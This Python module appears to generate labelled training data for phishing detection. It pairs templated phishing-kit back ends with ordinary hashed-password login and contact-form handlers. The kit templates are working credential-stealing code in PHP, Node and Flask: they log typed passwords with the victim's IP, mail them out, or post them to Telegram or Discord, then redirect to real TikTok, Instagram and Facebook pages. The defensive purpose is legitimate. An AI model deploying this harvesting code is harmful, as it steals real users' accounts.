"""Server source files: phishing-kit back ends and the ordinary back ends they resemble.

Kits ship their back end beside the page (``login.php``, ``server.js``, ``app.py``): it reads the
submitted password and keeps or forwards it as typed (a log file, ``mail()``, a chat bot), often
with the visitor's IP, then sends the visitor on to the real site. An ordinary back end reads
the same fields and mails the same way (contact forms), but verifies a password against a hash
and never stores or sends it. Stored as the file itself, without a URL, on both sides.
"""

from __future__ import annotations

import random

from data.generator.pages_hosts import Loc
from data.generator.pages_kit import Builder, Family, pick
from data.generator.pages_skeletons import Page

_BRANDS = ("TikTok", "Instagram", "Snapwave", "Chirpr", "Facenest", "Pixagram", "Gamevault")
_USER = ("username", "user", "email", "login", "uname", "identifier")
_PASS = ("password", "pass", "pwd", "passwd", "senha", "sifre")
_LOG = ("usernames.txt", "log.txt", "admin/vic.php", "results.html", "data/victims.log", "hits.txt")
_SITE = ("https://www.tiktok.com/", "https://www.instagram.com/", "https://www.facebook.com/")


def _php_kit(rng: random.Random, brand: str) -> str:
    user, pw, log = pick(rng, _USER), pick(rng, _PASS), pick(rng, _LOG)
    method = pick(rng, ("POST", "GET", "REQUEST"))
    keep = pick(
        rng,
        (
            f'$fp = fopen("{log}", "a");\nfwrite($fp, "{brand} | " . $u . " | " . $p . "\\n");\nfclose($fp);',
            f'file_put_contents("{log}", "$u:$p\\n", FILE_APPEND);',
            f'$to = "collector{rng.randint(1, 99)}@example.net";\nmail($to, "{brand} login $u", "user: $u\\npass: $p\\nip: $ip");',
            (
                f'$token = "{rng.randint(10**9, 10**10 - 1)}:AAxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx";\n'
                '$msg = urlencode("new login\\nuser: $u\\npass: $p\\nip: $ip");\n'
                'file_get_contents("https://api.telegram.org/bot$token/sendMessage?chat_id=$chat&text=$msg");'
            ),
        ),
    )
    ip = pick(
        rng,
        (
            '$ip = $_SERVER["REMOTE_ADDR"];',
            '$ip = getenv("HTTP_CLIENT_IP") ?: $_SERVER["REMOTE_ADDR"];',
            '$geo = json_decode(file_get_contents("http://ip-api.com/json/" . $_SERVER["REMOTE_ADDR"]));\n$ip = $geo->query;',
        ),
    )
    after = pick(
        rng,
        (
            f'header("Location: {pick(rng, _SITE)}");\nexit;',
            f"echo \"<script>window.location = '{pick(rng, _SITE)}';</script>\";",
            'header("Location: verify.html?step=2");',
        ),
    )
    return (
        f"<?php\n// {brand} {pick(rng, ('login', 'verify', 'followers'))} handler\n"
        f'$u = $_{method}["{user}"];\n$p = $_{method}["{pw}"];\n{ip}\n{keep}\n{after}\n?>\n'
    )


def _node_kit(rng: random.Random, brand: str) -> str:
    pw = pick(rng, ("password", "pass", "pwd"))
    send = pick(
        rng,
        (
            "await axios.post(`https://api.telegram.org/bot${TOKEN}/sendMessage`, { chat_id: CHAT, text });",
            "await fetch(process.env.HOOK, { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ content: text }) }); // discord.com/api/webhooks/...",
            "fs.appendFileSync('logins.txt', text + '\\n');",
        ),
    )
    return (
        "const express = require('express');\nconst axios = require('axios');\nconst fs = require('fs');\n"
        "const app = express();\napp.use(express.urlencoded({ extended: true }));\n\n"
        f"app.post('/{pick(rng, ('login', 'auth', 'verify', 'submit'))}', async (req, res) => {{\n"
        f"  const {{ username, {pw} }} = req.body;\n"
        f"  const text = `{brand} login\\nuser: ${{username}}\\npass: ${{{pw}}}\\nip: ${{req.ip}}`;\n"
        f"  {send}\n  res.redirect('{pick(rng, _SITE)}');\n}});\n\napp.listen(process.env.PORT || 3000);\n"
    )


def _python_kit(rng: random.Random, brand: str) -> str:
    log = pick(rng, _LOG)
    return (
        "from flask import Flask, redirect, request\n\napp = Flask(__name__)\n\n\n"
        f"@app.route('/{pick(rng, ('login', 'verify', 'claim'))}', methods=['POST'])\ndef grab():\n"
        "    user = request.form.get('username')\n    password = request.form.get('password')\n"
        f"    with open('{log}', 'a') as fh:\n        fh.write(f'{brand} {{user}}:{{password}} {{request.remote_addr}}\\n')\n"
        f"    return redirect('{pick(rng, _SITE)}')\n"
    )


def _php_app(rng: random.Random, brand: str) -> str:
    user = pick(rng, ("email", "username", "login"))
    if rng.random() < 0.4:  # a contact form: mails what is typed, asks no password
        return (
            "<?php\n// contact form\n"
            f'$name = trim($_POST["name"] ?? "");\n$from = filter_var($_POST["{user}"] ?? "", FILTER_VALIDATE_EMAIL);\n'
            '$message = trim($_POST["message"] ?? "");\nif (!$from || $message === "") { http_response_code(422); exit; }\n'
            f'$to = "hello@{brand.lower()}.example";\nmail($to, "Contact: $name", $message, "Reply-To: $from");\n'
            'header("Location: /thanks.html");\n?>\n'
        )
    return (
        "<?php\nsession_start();\nrequire __DIR__ . '/db.php';\n\n"
        f'$id = $_POST["{user}"] ?? "";\n$password = $_POST["password"] ?? "";\n'
        f'$stmt = $pdo->prepare("SELECT id, password_hash FROM users WHERE {user} = ?");\n'
        "$stmt->execute([$id]);\n$row = $stmt->fetch();\n"
        'if ($row && password_verify($password, $row["password_hash"])) {\n'
        '    session_regenerate_id(true);\n    $_SESSION["uid"] = $row["id"];\n    header("Location: /dashboard");\n    exit;\n}\n'
        f'error_log("{brand}: failed login for " . substr(hash("sha256", $id), 0, 12));\n'
        'header("Location: /login?error=1");\n?>\n'
    )


def _node_app(rng: random.Random, brand: str) -> str:
    return (
        "const express = require('express');\nconst bcrypt = require('bcrypt');\nconst session = require('express-session');\n"
        "const app = express();\napp.use(express.urlencoded({ extended: true }));\n"
        "app.use(session({ secret: process.env.SESSION_SECRET, resave: false, saveUninitialized: false }));\n\n"
        f"app.post('/{pick(rng, ('login', 'signin', 'session'))}', async (req, res) => {{\n"
        "  const { email, password } = req.body;\n  const user = await db.users.findOne({ email });\n"
        "  if (!user || !(await bcrypt.compare(password, user.hash))) return res.status(401).render('login', { error: true });\n"
        f"  req.session.userId = user.id;\n  res.redirect('/{pick(rng, ('home', 'dashboard', 'feed'))}');\n}});\n\n"
        f"app.listen(process.env.PORT || 3000); // {brand} web\n"
    )


def _python_app(rng: random.Random, brand: str) -> str:
    return (
        "from flask import Flask, redirect, request, session\n"
        "from werkzeug.security import check_password_hash\n\napp = Flask(__name__)\n\n\n"
        "@app.route('/login', methods=['POST'])\ndef login():\n"
        "    user = User.query.filter_by(email=request.form.get('email')).first()\n"
        "    if user is None or not check_password_hash(user.password_hash, request.form.get('password', '')):\n"
        f"        return redirect('/login?error=1')\n    session['uid'] = user.id\n    return redirect('/{pick(rng, ('home', 'app'))}')  # {brand}\n"
    )


def _builder(label: str) -> Builder:
    makers = (
        (_php_kit, _node_kit, _python_kit)
        if label == "scam"
        else (_php_app, _node_app, _python_app)
    )
    weights = (5, 3, 2)

    def build(rng: random.Random, lang: str, i: int) -> tuple[Page, Loc]:
        brand = pick(rng, _BRANDS)
        make = rng.choices(makers, weights=weights)[0]
        return Page(f"{brand} back end", make(rng, brand), lang, brand), Loc("")

    build.__name__ = build.__qualname__ = f"{label}_backend"
    build.__module__ = __name__
    return build


def _as_file(page: Page, _rng: random.Random) -> str:
    return page.body


# Families whose rows are source files rather than markup.
SOURCE_FAMILIES = ("page-kit-backend", "page-app-backend")


def families() -> list[Family]:
    return [
        Family("page-kit-backend", "scam", "credential_phishing", ("en",), 12, _builder("scam"), skin=_as_file),
        Family("page-app-backend", "benign", "ordinary_login", ("en",), 12, _builder("benign"), skin=_as_file),
    ]  # fmt: skip
